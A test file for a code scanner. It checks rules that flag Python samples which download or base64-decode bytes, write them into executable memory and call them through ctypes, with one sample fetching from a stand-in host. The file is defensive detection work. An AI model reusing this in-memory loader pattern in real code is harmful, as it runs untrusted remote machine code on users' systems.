import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import execOfDecodedData from '../../src/rules/exec-of-decoded-data.js';
import { read } from './reading.js';

const runs = (code: string): string => `import base64\nimport ctypes\nimport mmap\nimport struct\nimport urllib.request\nbed = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbed.write(${code})\nctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_int.from_buffer(bed)))()\n`;

async function found(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : [...downloadThenRun.check(facts), ...execOfDecodedData.check(facts)].map(({ severity }) => severity);
}

test.each(['urllib.request.urlopen("https://garden.example.invalid/").read()', 'base64.b64decode("kJCQkJCQkJCQkJCQkMM=")'])('%s that is written into memory and called is blocked', async (code) => {
  expect(await found(runs(code))).toEqual(['critical']);
});

test.each(['b"\\x0f\\xa2\\xc3"', 'struct.pack("<B", 0xc3)'])('an instruction that the file has in plain sight (%s) asks the processor what it is', async (code) => {
  expect(await found(runs(code))).toEqual([]);
});

test('a function of Python that is handed to C is none that was decoded', async () => {
  expect(await found('import base64\nimport ctypes\nleaf = base64.b64decode("bGVhZg==")\n@ctypes.CFUNCTYPE(None, ctypes.c_int)\ndef plant(bulb):\n    return leaf\nctypes.CFUNCTYPE(None)(plant)()\n')).toEqual([]);
});
